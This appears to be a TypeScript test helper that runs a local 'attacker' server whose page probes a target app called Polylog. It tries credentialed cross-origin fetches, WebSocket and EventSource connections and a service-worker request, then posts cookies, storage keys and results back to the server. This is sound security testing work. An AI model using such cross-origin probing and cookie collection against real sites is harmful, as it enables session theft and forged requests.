import { createServer, type IncomingHttpHeaders, type IncomingMessage } from "node:http";
import type { AddressInfo } from "node:net";

/**
 * A dev server on another port of the same machine: its page tries everything, and the server records all that a
 * browser sends.
 */
export interface Attacker {
  readonly port: number;
  /** The headers of every received request and upgrade. */
  readonly received: readonly IncomingHttpHeaders[];
  /** The results of the page's attempts, by attempt. */
  readonly reports: readonly Readonly<Record<string, string>>[];
  close(): Promise<void>;
}

export async function startAttacker(): Promise<Attacker> {
  const received: IncomingHttpHeaders[] = [];
  const reports: Record<string, string>[] = [];
  const server = createServer((request, response) => {
    received.push(request.headers);
    const { pathname } = new URL(request.url ?? "/", "http://attacker");
    if (pathname === "/report") {
      void textOf(request).then((text) => {
        reports.push(JSON.parse(text) as Record<string, string>);
        response.end("{}");
      });
      return;
    }
    const [type, body] =
      pathname === "/worker.js" ? ["text/javascript", worker] : ["text/html", `<script>${page}</script>`];
    response.writeHead(200, { "content-type": type }).end(body);
  });
  server.on("upgrade", ({ headers }, socket) => {
    received.push(headers);
    socket.destroy();
  });
  // IPv4 and IPv6, so that every name of this machine resolves to this server.
  await new Promise<void>((resolve) => server.listen(0, "::", resolve));
  return {
    port: (server.address() as AddressInfo).port,
    received,
    reports,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

async function textOf(request: IncomingMessage): Promise<string> {
  let text = "";
  for await (const chunk of request) text += chunk;
  return text;
}

const worker = `
addEventListener("activate", (event) => event.waitUntil(clients.claim()));
addEventListener("message", async ({ data, source }) => {
  const answer = await fetch(data + "/api/me", { credentials: "include" }).then((a) => String(a.status), () => "failed");
  await fetch("/from-worker", { credentials: "include" }).catch(() => undefined);
  source.postMessage(answer);
});
`;

/** The address of Polylog is in the fragment. */
const page = `
(async () => {
  const target = location.hash.slice(1);
  const attempt = (work) => work().catch((error) => error.name);
  const status = (path, init) => attempt(async () => String((await fetch(target + path, { credentials: "include", ...init })).status));
  const socket = (url, protocols) => new Promise((resolve) => {
    const opened = new WebSocket(url, protocols);
    opened.onopen = () => resolve("open");
    opened.onerror = () => resolve("failed");
  });
  const ws = target.replace("http", "ws") + "/ws";
  const registration = await navigator.serviceWorker?.register("/worker.js").catch(() => null);
  if (registration) await navigator.serviceWorker.ready;
  const fromWorker = registration ? await new Promise((resolve) => {
    navigator.serviceWorker.onmessage = ({ data }) => resolve(data);
    navigator.serviceWorker.ready.then(({ active }) => active.postMessage(target));
  }) : "failed";
  const report = {
    cookie: document.cookie,
    storage: String(Object.keys(localStorage)),
    read: await status("/api/me"),
    blind: await attempt(async () => (await fetch(target + "/api/me", { mode: "no-cors", credentials: "include" })).type + " " + (await (await fetch(target + "/api/me", { mode: "no-cors", credentials: "include" })).text())),
    write: await status("/api/chat", { method: "POST", body: "{}" }),
    withKey: await status("/api/me", { headers: { "x-polylog-key": "guess" } }),
    socket: await socket(ws),
    socketWithKey: await socket(ws, ["polylog", "polylog-key.guess"]),
    stream: await new Promise((resolve) => {
      const source = new EventSource(target + "/api/events", { withCredentials: true });
      source.onopen = () => resolve("open");
      source.onerror = () => { source.close(); resolve("failed"); };
    }),
    image: await new Promise((resolve) => {
      const image = new Image();
      image.onload = () => resolve("loaded");
      image.onerror = () => resolve("failed");
      image.src = target + "/icon.svg";
    }),
    worker: fromWorker,
  };
  await socket(location.origin.replace("http", "ws") + "/own");
  await fetch("/report", { method: "POST", body: JSON.stringify(report) });
})();
`;
